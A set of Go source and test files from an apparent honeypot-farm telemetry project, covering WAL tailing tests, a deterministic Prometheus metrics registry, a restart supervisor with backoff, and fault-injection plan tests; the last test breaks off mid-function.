	for i := 0; i < 2000; i++ {
		if cond() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", what)
}

// TestFollowerTailsWAL drives the full tail path: durable batches
// already in the WAL are drained first, then batches appended while the
// follower runs; the resulting snapshot equals a direct-ingest engine's.
func TestFollowerTailsWAL(t *testing.T) {
	const numPots = 7
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 9, TotalSessions: 900, Days: 15, NumPots: numPots,
	})
	if err != nil {
		t.Fatal(err)
	}
	recs := d.Store.Records()
	dir := t.TempDir()
	// Tiny segments so the tail crosses sealed-segment boundaries.
	l, _, err := wal.Open(dir, wal.Options{Epoch: honeyfarm.DefaultEpoch, SegmentBytes: 8 << 10, SyncEvery: 1})
	if err != nil {
		t.Fatal(err)
	}
	half := len(recs) / 2
	for i := 0; i < half; i += 60 {
		j := i + 60
		if j > half {
			j = half
		}
		if err := l.Append(recs[i:j]); err != nil {
			t.Fatal(err)
		}
	}

	mk := func() *query.Engine {
		return query.New(query.Config{Epoch: honeyfarm.DefaultEpoch, NumPots: numPots, Registry: d.Registry})
	}
	eng := mk()
	f, err := query.NewFollower(eng, dir, 2*time.Millisecond)
	if err != nil {
		t.Fatal(err)
	}
	f.Start()
	waitUntil(t, "pre-existing batches", func() bool { return eng.Snapshot().Seq == uint64(half) })

	for i := half; i < len(recs); i += 60 {
		j := i + 60
		if j > len(recs) {
			j = len(recs)
		}
		if err := l.Append(recs[i:j]); err != nil {
			t.Fatal(err)
		}
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	waitUntil(t, "live-appended batches", func() bool { return eng.Snapshot().Seq == uint64(len(recs)) })
	if err := f.Stop(); err != nil {
		t.Fatal(err)
	}

	direct := mk()
	direct.Ingest(recs)
	if !bytes.Equal(mustJSON(t, eng.Snapshot()), mustJSON(t, direct.Seal())) {
		t.Fatal("followed snapshot diverges from direct ingest")
	}
}

// TestFollowerEpochMismatch: a WAL recorded under a different epoch
// must surface as a follower error, not silently mis-bucketed days.
func TestFollowerEpochMismatch(t *testing.T) {
	dir := t.TempDir()
	other := time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)
	l, _, err := wal.Open(dir, wal.Options{Epoch: other, SyncEvery: 1})
	if err != nil {
		t.Fatal(err)
	}
	if err := l.Append([]*honeypot.SessionRecord{{ID: 1, Start: other, End: other}}); err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	eng := query.New(query.Config{Epoch: honeyfarm.DefaultEpoch, NumPots: 1})
	f, err := query.NewFollower(eng, dir, 2*time.Millisecond)
	if err != nil {
		t.Fatal(err)
	}
	f.Start()
	waitUntil(t, "epoch mismatch error", func() bool { return f.Err() != nil })
	if err := f.Stop(); err == nil {
		t.Fatal("Stop returned nil after an epoch mismatch")
	}
	if eng.Snapshot().Seq != 0 {
		t.Fatalf("mismatched-epoch records were ingested (seq %d)", eng.Snapshot().Seq)
	}
}

// TestFollowerTailsMixedFormatWAL upgrades the WAL codec mid-tail: the
// durable prefix is written by a v1 (JSON-codec) log, the live suffix
// by a reopened v2 (binary-codec) log, so the follower crosses a
// format boundary while running. The snapshot must equal direct ingest
// regardless.
func TestFollowerTailsMixedFormatWAL(t *testing.T) {
	const numPots = 5
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 11, TotalSessions: 600, Days: 10, NumPots: numPots,
	})
	if err != nil {
		t.Fatal(err)
	}
	recs := d.Store.Records()
	dir := t.TempDir()
	half := len(recs) / 2

	l, _, err := wal.Open(dir, wal.Options{
		Epoch: honeyfarm.DefaultEpoch, Format: wal.FormatName,
		SegmentBytes: 8 << 10, SyncEvery: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < half; i += 60 {
		j := min(i+60, half)
		if err := l.Append(recs[i:j]); err != nil {
			t.Fatal(err)
		}
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}

	// The upgraded writer: v2 default, same directory.
	l, _, err = wal.Open(dir, wal.Options{
		Epoch: honeyfarm.DefaultEpoch, SegmentBytes: 8 << 10, SyncEvery: 1,
	})
	if err != nil {
		t.Fatal(err)
	}

	eng := query.New(query.Config{Epoch: honeyfarm.DefaultEpoch, NumPots: numPots, Registry: d.Registry})
	f, err := query.NewFollower(eng, dir, 2*time.Millisecond)
	if err != nil {
		t.Fatal(err)
	}
	f.Start()
	waitUntil(t, "v1 prefix", func() bool { return eng.Snapshot().Seq == uint64(half) })

	for i := half; i < len(recs); i += 60 {
		j := min(i+60, len(recs))
		if err := l.Append(recs[i:j]); err != nil {
			t.Fatal(err)
		}
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	waitUntil(t, "v2 suffix", func() bool { return eng.Snapshot().Seq == uint64(len(recs)) })
	if err := f.Stop(); err != nil {
		t.Fatal(err)
	}

	direct := query.New(query.Config{Epoch: honeyfarm.DefaultEpoch, NumPots: numPots, Registry: d.Registry})
	direct.Ingest(recs)
	if !bytes.Equal(mustJSON(t, eng.Snapshot()), mustJSON(t, direct.Seal())) {
		t.Fatal("mixed-format tail diverges from direct ingest")
	}
}
