package metrics

import (
	"bytes"
	"flag"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"honeyfarm/internal/stats"
)

var updateGolden = flag.Bool("update", false, "rewrite golden files")

// fill registers one of everything and feeds a fixed event sequence —
// the shared fixture for the golden and determinism tests.
func fill(r *Registry) {
	c := r.Counter("test_sessions_total", "Sessions accepted.", nil)
	c.Add(41)
	c.Inc()
	byPot0 := r.Counter("test_pot_sessions_total", "Sessions per pot.", Labels{"pot": "0"})
	byPot1 := r.Counter("test_pot_sessions_total", "Sessions per pot.", Labels{"pot": "1"})
	byPot0.Add(7)
	byPot1.Add(3)
	g := r.Gauge("test_lag_records", "Follower lag.", nil)
	g.Set(12.5)
	g.Add(-2.5)
	r.GaugeFunc("test_snapshot_seq", "Sealed snapshot sequence.", nil, func() float64 { return 80 })
	r.CounterFunc("test_ingested_total", "Ingested records.", Labels{"shard": "1", "role": "collector"}, func() float64 { return 1234 })
	h := r.Histogram("test_pull_seconds", "Pull latency.", nil, stats.LogBuckets(0.001, 10, 4))
	for _, v := range []float64{0.0005, 0.002, 0.2, 0.2, 99} {
		h.Observe(v)
	}
}

func TestRenderGolden(t *testing.T) {
	r := NewRegistry()
	fill(r)
	got := r.Render()
	path := filepath.Join("testdata", "registry.golden.txt")
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden (run with -update to create): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("render mismatch:\n--- got ---\n%s--- want ---\n%s", got, want)
	}
}

func TestRenderDeterministic(t *testing.T) {
	a, b := NewRegistry(), NewRegistry()
	fill(a)
	fill(b)
	if !bytes.Equal(a.Render(), b.Render()) {
		t.Errorf("two registries fed identical events rendered differently:\n--- a ---\n%s--- b ---\n%s", a.Render(), b.Render())
	}
	// Render twice: the reused buffer must not corrupt output.
	if !bytes.Equal(a.Render(), a.Render()) {
		t.Error("repeated renders of one registry differ")
	}
}

func TestLabelOrderIrrelevant(t *testing.T) {
	a, b := NewRegistry(), NewRegistry()
	a.Counter("x_total", "x.", Labels{"a": "1", "b": "2"}).Inc()
	b.Counter("x_total", "x.", Labels{"b": "2", "a": "1"}).Inc()
	if !bytes.Equal(a.Render(), b.Render()) {
		t.Error("label map order changed the render")
	}
}

func TestLabelEscaping(t *testing.T) {
	r := NewRegistry()
	r.Counter("esc_total", "e.", Labels{"k": "a\\b\"c\nd"}).Inc()
	out := string(r.Render())
	if !strings.Contains(out, `{k="a\\b\"c\nd"}`) {
		t.Errorf("labels not escaped: %q", out)
	}
}

func TestDuplicateRegistrationPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("duplicate registration did not panic")
		}
	}()
	r := NewRegistry()
	r.Counter("dup_total", "d.", nil)
	r.Counter("dup_total", "d.", nil)
}

func TestKindConflictPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("kind conflict did not panic")
		}
	}()
	r := NewRegistry()
	r.Counter("conflict", "c.", nil)
	r.Gauge("conflict", "c.", nil)
}

func TestReservedLabelPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("reserved le label did not panic")
		}
	}()
	r := NewRegistry()
	r.Histogram("h", "h.", Labels{"le": "1"}, []float64{1})
}

func TestHistogramCumulativeBuckets(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("lat_seconds", "l.", Labels{"shard": "0"}, []float64{1, 10})
	h.Observe(0.5)
	h.Observe(5)
	h.Observe(50)
	out := string(r.Render())
	for _, want := range []string{
		`lat_seconds_bucket{shard="0",le="1"} 1`,
		`lat_seconds_bucket{shard="0",le="10"} 2`,
		`lat_seconds_bucket{shard="0",le="+Inf"} 3`,
		`lat_seconds_sum{shard="0"} 55.5`,
		`lat_seconds_count{shard="0"} 3`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("render missing %q:\n%s", want, out)
		}
	}
}

func TestHandler(t *testing.T) {
	r := NewRegistry()
	r.Counter("hits_total", "h.", nil).Add(3)
	srv := httptest.NewServer(r.Handler())
	defer srv.Close()

	res, err := srv.Client().Get(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain; version=0.0.4") {
		t.Errorf("Content-Type = %q", ct)
	}
	var buf bytes.Buffer
	if _, err := buf.ReadFrom(res.Body); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "hits_total 3") {
		t.Errorf("body missing counter: %s", buf.String())
	}

	post, err := srv.Client().Post(srv.URL, "text/plain", nil)
	if err != nil {
		t.Fatal(err)
	}
	post.Body.Close()
	if post.StatusCode != 405 {
		t.Errorf("POST status = %d, want 405", post.StatusCode)
	}
}

func BenchmarkCounterInc(b *testing.B) {
	r := NewRegistry()
	c := r.Counter("bench_total", "b.", nil)
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			c.Inc()
		}
	})
}

func BenchmarkRender(b *testing.B) {
	r := NewRegistry()
	fill(r)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		r.mu.Lock()
		r.renderLocked()
		r.mu.Unlock()
	}
}
