// Package metrics is a stdlib-only Prometheus text-format registry:
// the operational metrics plane for every long-running honeyfarm
// process (cmd/serve, cmd/shard, cmd/merge, the farm supervisor and
// cmd/loadgen's embedded farm).
//
// Three things distinguish it from the usual client library:
//
//   - Deterministic output. Families render sorted by name, children
//     sorted by label signature, label keys sorted within a signature,
//     and no timestamps — two registries fed identical events render
//     byte-identical text, so /metrics is golden-testable like every
//     other endpoint in this repo.
//   - Allocation-light hot path. Counter.Inc/Add is one atomic add,
//     Gauge.Set one atomic store; nothing on the observe path
//     allocates or takes the registry lock. Rendering reuses one
//     buffer under the registry mutex.
//   - Fixed log-spaced histogram buckets shared with stats.Histogram
//     (stats.LogBuckets), so wire-side histograms and analysis-side
//     histograms agree on bucket layout and merge cleanly.
//
// Registration happens once at process start; duplicate registration
// is a programming error and panics, matching the fail-fast contract
// of flag.Var and http.ServeMux.Handle.
package metrics

import (
	"fmt"
	"math"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"

	"honeyfarm/internal/stats"
)

// Labels is one metric child's label set. Keys render sorted, so any
// map order produces the same signature.
type Labels map[string]string

// signature renders labels canonically: `{k1="v1",k2="v2"}` with keys
// sorted, or "" for an empty set. Values are escaped per the
// exposition format (backslash, double-quote, newline).
func (l Labels) signature() string {
	if len(l) == 0 {
		return ""
	}
	keys := make([]string, 0, len(l))
	for k := range l {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	b.WriteByte('{')
	for i, k := range keys {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(k)
		b.WriteString(`="`)
		b.WriteString(escapeLabel(l[k]))
		b.WriteByte('"')
	}
	b.WriteByte('}')
	return b.String()
}

func escapeLabel(v string) string {
	if !strings.ContainsAny(v, "\\\"\n") {
		return v
	}
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return r.Replace(v)
}

// kind is a family's exposition type.
type kind int

const (
	kindCounter kind = iota
	kindGauge
	kindHistogram
)

func (k kind) String() string {
	switch k {
	case kindCounter:
		return "counter"
	case kindGauge:
		return "gauge"
	default:
		return "histogram"
	}
}

// Counter is a monotonically increasing metric. The zero value is
// ready to use; Registry.Counter returns one already registered, and a
// standalone zero Counter can be exported later via CounterFunc.
type Counter struct {
	v atomic.Uint64
}

// Inc adds one.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n.
func (c *Counter) Add(n uint64) { c.v.Add(n) }

// Value returns the current count.
func (c *Counter) Value() uint64 { return c.v.Load() }

// Gauge is a metric that can go up and down.
type Gauge struct {
	bits atomic.Uint64
}

// Set stores v.
func (g *Gauge) Set(v float64) { g.bits.Store(math.Float64bits(v)) }

// Add adjusts the gauge by delta.
func (g *Gauge) Add(delta float64) {
	//lint:ignore bounded-loop CAS retry loop; terminates as soon as no concurrent Add interleaves
	for {
		old := g.bits.Load()
		next := math.Float64bits(math.Float64frombits(old) + delta)
		if g.bits.CompareAndSwap(old, next) {
			return
		}
	}
}

// Value returns the current value.
func (g *Gauge) Value() float64 { return math.Float64frombits(g.bits.Load()) }

// Histogram is a fixed-bucket observation metric: a mutex-guarded
// stats.Histogram rendered in the Prometheus cumulative-bucket form.
type Histogram struct {
	mu sync.Mutex
	h  *stats.Histogram
}

// Observe records one sample.
func (h *Histogram) Observe(v float64) {
	h.mu.Lock()
	h.h.Observe(v)
	h.mu.Unlock()
}

// Snapshot returns a merged copy of the histogram state.
func (h *Histogram) Snapshot() *stats.Histogram {
	h.mu.Lock()
	defer h.mu.Unlock()
	c, err := stats.NewHistogram(h.h.Bounds())
	if err != nil {
		panic("metrics: histogram bounds invalidated: " + err.Error())
	}
	if err := c.Merge(h.h); err != nil {
		panic("metrics: histogram self-merge failed: " + err.Error())
	}
	return c
}

// child is one (family, labels) series.
type child struct {
	sig    string // canonical label signature, "" for none
	ctr    *Counter
	gau    *Gauge
	fn     func() float64 // CounterFunc / GaugeFunc value source
	hist   *Histogram
	histFn func() *stats.Histogram // HistogramFunc snapshot source
}

// family is one named metric with its help text, type, and children.
type family struct {
	name     string
	help     string
	kind     kind
	children []*child // sorted by sig
}

func (f *family) add(c *child) {
	i := sort.Search(len(f.children), func(i int) bool { return f.children[i].sig >= c.sig })
	if i < len(f.children) && f.children[i].sig == c.sig {
		panic(fmt.Sprintf("metrics: duplicate registration of %s%s", f.name, c.sig))
	}
	f.children = append(f.children, nil)
	copy(f.children[i+1:], f.children[i:])
	f.children[i] = c
}

// Registry holds metric families and renders them in the Prometheus
// text exposition format (version 0.0.4).
type Registry struct {
	mu       sync.Mutex
	families []*family // sorted by name
	buf      []byte    // render buffer, reused across scrapes
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry { return &Registry{} }

// familyLocked finds or creates the named family, enforcing one kind
// and one help string per name.
func (r *Registry) familyLocked(name, help string, k kind) *family {
	i := sort.Search(len(r.families), func(i int) bool { return r.families[i].name >= name })
	if i < len(r.families) && r.families[i].name == name {
		f := r.families[i]
		if f.kind != k {
			panic(fmt.Sprintf("metrics: %s registered as both %s and %s", name, f.kind, k))
		}
		return f
	}
	f := &family{name: name, help: help, kind: k}
	r.families = append(r.families, nil)
	copy(r.families[i+1:], r.families[i:])
	r.families[i] = f
	return f
}

// Counter registers and returns a counter. labels may be nil.
func (r *Registry) Counter(name, help string, labels Labels) *Counter {
	r.mu.Lock()
	defer r.mu.Unlock()
	c := &Counter{}
	r.familyLocked(name, help, kindCounter).add(&child{sig: labels.signature(), ctr: c})
	return c
}

// CounterFunc registers a counter whose value is read from fn at each
// render. fn must be monotonic and safe for concurrent use.
func (r *Registry) CounterFunc(name, help string, labels Labels, fn func() float64) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.familyLocked(name, help, kindCounter).add(&child{sig: labels.signature(), fn: fn})
}

// Gauge registers and returns a gauge. labels may be nil.
func (r *Registry) Gauge(name, help string, labels Labels) *Gauge {
	r.mu.Lock()
	defer r.mu.Unlock()
	g := &Gauge{}
	r.familyLocked(name, help, kindGauge).add(&child{sig: labels.signature(), gau: g})
	return g
}

// GaugeFunc registers a gauge whose value is read from fn at each
// render. fn must be safe for concurrent use.
func (r *Registry) GaugeFunc(name, help string, labels Labels, fn func() float64) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.familyLocked(name, help, kindGauge).add(&child{sig: labels.signature(), fn: fn})
}

// Histogram registers and returns a histogram over the given bucket
// bounds (strictly ascending upper bounds, typically
// stats.LogBuckets). labels may be nil; the "le" label is reserved.
func (r *Registry) Histogram(name, help string, labels Labels, bounds []float64) *Histogram {
	if _, reserved := labels["le"]; reserved {
		panic("metrics: label \"le\" is reserved for histogram buckets")
	}
	sh, err := stats.NewHistogram(bounds)
	if err != nil {
		panic("metrics: " + err.Error())
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	h := &Histogram{h: sh}
	r.familyLocked(name, help, kindHistogram).add(&child{sig: labels.signature(), hist: h})
	return h
}

// HistogramFunc registers a histogram whose state is snapshotted from
// fn at each render — for subsystems that own their own
// stats.Histogram (e.g. the merge coordinator's pull latency). fn must
// be safe for concurrent use and return a consistent copy.
func (r *Registry) HistogramFunc(name, help string, labels Labels, fn func() *stats.Histogram) {
	if _, reserved := labels["le"]; reserved {
		panic("metrics: label \"le\" is reserved for histogram buckets")
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.familyLocked(name, help, kindHistogram).add(&child{sig: labels.signature(), histFn: fn})
}

// appendValue renders a float the way Prometheus does: integral values
// without an exponent, everything else in shortest-round-trip form.
func appendValue(b []byte, v float64) []byte {
	if v == math.Trunc(v) && math.Abs(v) < 1e15 {
		return strconv.AppendFloat(b, v, 'f', -1, 64)
	}
	return strconv.AppendFloat(b, v, 'g', -1, 64)
}

// appendSeries renders one `name{labels} value` line. sig already
// carries the braces (or is empty).
func appendSeries(b []byte, name, sig string, v float64) []byte {
	b = append(b, name...)
	b = append(b, sig...)
	b = append(b, ' ')
	b = appendValue(b, v)
	return append(b, '\n')
}

// bucketSig splices `le="bound"` into an existing signature.
func bucketSig(sig, le string) string {
	if sig == "" {
		return `{le="` + le + `"}`
	}
	return sig[:len(sig)-1] + `,le="` + le + `"}`
}

// renderLocked renders every family into r.buf.
func (r *Registry) renderLocked() {
	b := r.buf[:0]
	for _, f := range r.families {
		b = append(b, "# HELP "...)
		b = append(b, f.name...)
		b = append(b, ' ')
		b = append(b, f.help...)
		b = append(b, "\n# TYPE "...)
		b = append(b, f.name...)
		b = append(b, ' ')
		b = append(b, f.kind.String()...)
		b = append(b, '\n')
		for _, c := range f.children {
			switch {
			case c.ctr != nil:
				b = append(b, f.name...)
				b = append(b, c.sig...)
				b = append(b, ' ')
				b = strconv.AppendUint(b, c.ctr.Value(), 10)
				b = append(b, '\n')
			case c.gau != nil:
				b = appendSeries(b, f.name, c.sig, c.gau.Value())
			case c.fn != nil:
				b = appendSeries(b, f.name, c.sig, c.fn())
			case c.hist != nil, c.histFn != nil:
				var h *stats.Histogram
				if c.hist != nil {
					h = c.hist.Snapshot()
				} else {
					h = c.histFn()
				}
				bounds, counts := h.Bounds(), h.Counts()
				var cum uint64
				for i, bound := range bounds {
					cum += counts[i]
					le := string(appendValue(nil, bound))
					b = appendSeries(b, f.name+"_bucket", bucketSig(c.sig, le), float64(cum))
				}
				cum += counts[len(counts)-1]
				b = appendSeries(b, f.name+"_bucket", bucketSig(c.sig, "+Inf"), float64(cum))
				b = appendSeries(b, f.name+"_sum", c.sig, h.Sum())
				b = appendSeries(b, f.name+"_count", c.sig, float64(h.Count()))
			}
		}
	}
	r.buf = b
}

// Render returns the full exposition text. The returned slice is
// owned by the caller.
func (r *Registry) Render() []byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.renderLocked()
	return append([]byte(nil), r.buf...)
}

// Handler returns the /metrics HTTP handler.
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.Method != http.MethodGet && req.Method != http.MethodHead {
			w.Header().Set("Allow", "GET, HEAD")
			http.Error(w, "method not allowed", http.StatusMethodNotAllowed)
			return
		}
		r.mu.Lock()
		r.renderLocked()
		body := append([]byte(nil), r.buf...)
		r.mu.Unlock()
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		w.Header().Set("Content-Length", strconv.Itoa(len(body)))
		if req.Method == http.MethodHead {
			return
		}
		if _, err := w.Write(body); err != nil {
			return // client went away mid-write; nothing to recover
		}
	})
}
