package faults

// Restarter is the generation-deduplicated restart supervisor shared by
// the farm (re-binding downed honeypots) and the shard merge
// coordinator (re-probing downed collectors). Both have the same shape:
// a unit goes down under a generation number, a restart request carries
// that generation, and a per-request loop waits out a capped-exponential
// backoff before each attempt. The generation is the dedup: any newer
// takedown bumps it, so a stale loop's attempt observes the mismatch
// and bows out instead of fighting the newer loop over the same unit.

import (
	"sync"
	"time"
)

// RestartOutcome is a Try callback's verdict on one restart attempt.
type RestartOutcome int

const (
	// RestartDone ends the loop: the unit is back up, or the request was
	// superseded (unit already up, generation stale, owner stopping).
	RestartDone RestartOutcome = iota
	// RestartRetry schedules another attempt after the next backoff step.
	RestartRetry
)

// RestarterConfig parameterizes NewRestarter.
type RestarterConfig struct {
	// Backoff returns the delay before attempt (0-based) for unit id —
	// typically Plan.Backoff, which is deterministic per (id, attempt).
	// Required.
	Backoff func(id, attempt int) time.Duration
	// Hold, when non-nil, returns an extra floor on the next attempt's
	// delay for unit id (e.g. the remainder of a planned outage window).
	// It is consulted before every attempt, so a moving hold keeps
	// pushing the restart out.
	Hold func(id int) time.Duration
	// Try performs one restart attempt for unit id under generation gen.
	// It must itself check the generation against the unit's current
	// state and return RestartDone when superseded. Required.
	Try func(id, gen, attempt int) RestartOutcome
	// Stop, when closed, ends the dispatcher and every in-flight loop at
	// their next select. Required.
	Stop <-chan struct{}
	// Pending bounds queued requests before Request blocks (default 16).
	Pending int
}

// Restarter runs one backoff loop per restart request. All goroutines
// exit when the Stop channel closes; Wait joins them.
type Restarter struct {
	cfg   RestarterConfig
	reqCh chan restartRequest
	wg    sync.WaitGroup
}

type restartRequest struct {
	id  int
	gen int
}

// NewRestarter starts the dispatcher goroutine and returns the
// supervisor. The caller owns the Stop channel's lifecycle and must
// call Wait after closing it to join the dispatcher and any loops.
func NewRestarter(cfg RestarterConfig) *Restarter {
	if cfg.Pending <= 0 {
		cfg.Pending = 16
	}
	r := &Restarter{cfg: cfg, reqCh: make(chan restartRequest, cfg.Pending)}
	r.wg.Add(1)
	go r.dispatch()
	return r
}

// Request enqueues a restart of unit id under generation gen. It
// returns false (dropping the request) once the Stop channel closes.
func (r *Restarter) Request(id, gen int) bool {
	// Checked first on its own: with Stop closed and buffer room free,
	// a single select would pick between the two ready cases at random
	// and sometimes enqueue onto a dispatcher that already exited.
	select {
	case <-r.cfg.Stop:
		return false
	default:
	}
	select {
	case r.reqCh <- restartRequest{id: id, gen: gen}:
		return true
	case <-r.cfg.Stop:
		return false
	}
}

// Wait joins the dispatcher and all restart loops. Call after the Stop
// channel closes.
func (r *Restarter) Wait() { r.wg.Wait() }

// dispatch hands each request its own backoff loop, so slow restarts
// never head-of-line block unrelated units.
func (r *Restarter) dispatch() {
	defer r.wg.Done()
	for running := true; running; {
		select {
		case <-r.cfg.Stop:
			running = false
		case req := <-r.reqCh:
			r.wg.Add(1)
			go func() {
				defer r.wg.Done()
				r.loop(req)
			}()
		}
	}
}

// loop waits out the backoff (raised to any hold floor) then attempts
// the restart, retrying with the next backoff step until Try reports
// RestartDone or the Stop channel closes.
func (r *Restarter) loop(req restartRequest) {
	for attempt, running := 0, true; running; attempt++ {
		delay := r.cfg.Backoff(req.id, attempt)
		if r.cfg.Hold != nil {
			if hold := r.cfg.Hold(req.id); hold > delay {
				delay = hold
			}
		}
		select {
		case <-r.cfg.Stop:
			running = false
			continue
		case <-time.After(delay):
		}
		if r.cfg.Try(req.id, req.gen, attempt) == RestartDone {
			running = false
		}
	}
}
