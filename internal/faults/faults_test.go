package faults

import (
	"encoding/json"
	"math"
	"testing"
	"time"
)

func TestValidate(t *testing.T) {
	good := []*Plan{
		nil,
		{},
		{Seed: 1, RefuseRate: 0.2, ResetRate: 0.3, StallRate: 0.5},
		{Outages: []Outage{{Pot: 0, FirstDay: 0, LastDay: 0}}},
	}
	for i, p := range good {
		if err := p.Validate(); err != nil {
			t.Errorf("plan %d: unexpected error %v", i, err)
		}
	}
	bad := []*Plan{
		{RefuseRate: -0.1},
		{JitterRate: 1.5},
		{RefuseRate: 0.5, ResetRate: 0.4, StallRate: 0.2}, // sums past 1
		{MaxJitterMS: -1},
		{Outages: []Outage{{Pot: -1, FirstDay: 0, LastDay: 1}}},
		{Outages: []Outage{{Pot: 0, FirstDay: 5, LastDay: 2}}},
	}
	for i, p := range bad {
		if err := p.Validate(); err == nil {
			t.Errorf("bad plan %d passed validation: %+v", i, p)
		}
	}
}

// TestConnFaultDeterministic pins the core contract: the same (seed,
// index) always yields the same decision, and a different seed yields a
// different decision sequence.
func TestConnFaultDeterministic(t *testing.T) {
	p := &Plan{Seed: 7, RefuseRate: 0.1, ResetRate: 0.1, StallRate: 0.1, JitterRate: 0.2, MaxJitterMS: 10}
	q := &Plan{Seed: 8, RefuseRate: 0.1, ResetRate: 0.1, StallRate: 0.1, JitterRate: 0.2, MaxJitterMS: 10}
	same, diff := 0, 0
	for seq := uint64(0); seq < 2000; seq++ {
		a, b := p.ConnFault(seq), p.ConnFault(seq)
		if a != b {
			t.Fatalf("seq %d: decision not deterministic: %+v vs %+v", seq, a, b)
		}
		if a == q.ConnFault(seq) {
			same++
		} else {
			diff++
		}
	}
	if diff == 0 {
		t.Error("changing the seed never changed a decision")
	}
	_ = same
}

// TestConnFaultRates checks the decision stream realizes the configured
// rates (law of large numbers, 5% absolute tolerance at n=20000).
func TestConnFaultRates(t *testing.T) {
	p := &Plan{Seed: 3, RefuseRate: 0.1, ResetRate: 0.15, StallRate: 0.05, JitterRate: 0.25}
	const n = 20000
	var refused, reset, stalled, jittered int
	for seq := uint64(0); seq < n; seq++ {
		d := p.ConnFault(seq)
		switch {
		case d.Refuse:
			refused++
			if d.Jitter != 0 || d.ResetAfter != 0 || d.Stall {
				t.Fatalf("seq %d: refused connection carries other faults: %+v", seq, d)
			}
		case d.ResetAfter > 0:
			reset++
			if d.ResetAfter > maxResetBytes+1 {
				t.Fatalf("seq %d: reset budget %d out of range", seq, d.ResetAfter)
			}
		case d.Stall:
			stalled++
		}
		if d.Jitter > 0 {
			jittered++
		}
	}
	check := func(name string, got int, want float64) {
		if f := float64(got) / n; math.Abs(f-want) > 0.05 {
			t.Errorf("%s rate = %.3f, want ≈ %.2f", name, f, want)
		}
	}
	check("refuse", refused, p.RefuseRate)
	check("reset", reset, p.ResetRate)
	check("stall", stalled, p.StallRate)
	// Jitter applies only to non-refused connections.
	check("jitter", jittered, p.JitterRate*(1-p.RefuseRate))
}

func TestDropsSessionRate(t *testing.T) {
	p := &Plan{Seed: 11, RefuseRate: 0.08, ResetRate: 0.07, StallRate: 0.05}
	const n = 20000
	drops := 0
	for i := uint64(0); i < n; i++ {
		if p.DropsSession(i) != p.DropsSession(i) {
			t.Fatal("DropsSession not deterministic")
		}
		if p.DropsSession(i) {
			drops++
		}
	}
	if f := float64(drops) / n; math.Abs(f-0.2) > 0.05 {
		t.Errorf("session drop rate = %.3f, want ≈ 0.20", f)
	}
	var none *Plan
	if none.DropsSession(1) {
		t.Error("nil plan drops sessions")
	}
}

func TestPotDownWindows(t *testing.T) {
	p := &Plan{Outages: []Outage{
		{Pot: 2, FirstDay: 3, LastDay: 5},
		{Pot: 2, FirstDay: 9, LastDay: 9},
		{Pot: 4, FirstDay: 0, LastDay: 1},
	}}
	cases := []struct {
		pot, day int
		down     bool
	}{
		{2, 2, false}, {2, 3, true}, {2, 4, true}, {2, 5, true}, {2, 6, false},
		{2, 9, true}, {4, 0, true}, {4, 2, false}, {0, 3, false},
	}
	for _, c := range cases {
		if got := p.PotDown(c.pot, c.day); got != c.down {
			t.Errorf("PotDown(%d, %d) = %v, want %v", c.pot, c.day, got, c.down)
		}
	}
}

// TestBackoff checks the policy: monotone non-decreasing ceilings,
// capped growth, deterministic jitter in [d/2, d), and nil-plan safety.
func TestBackoff(t *testing.T) {
	p := &Plan{Seed: 5, BackoffBaseMS: 10, BackoffCapMS: 100}
	prevCeil := time.Duration(0)
	for attempt := 0; attempt < 12; attempt++ {
		d := p.Backoff(3, attempt)
		if d != p.Backoff(3, attempt) {
			t.Fatal("backoff not deterministic")
		}
		ceil := 10 * time.Millisecond
		for i := 0; i < attempt && ceil < 100*time.Millisecond; i++ {
			ceil *= 2
		}
		if ceil > 100*time.Millisecond {
			ceil = 100 * time.Millisecond
		}
		if d < ceil/2 || d >= ceil {
			t.Errorf("attempt %d: backoff %v outside [%v, %v)", attempt, d, ceil/2, ceil)
		}
		if ceil < prevCeil {
			t.Errorf("attempt %d: ceiling shrank", attempt)
		}
		prevCeil = ceil
	}

	var none *Plan
	if d := none.Backoff(0, 2); d != 4*DefaultBackoffBase {
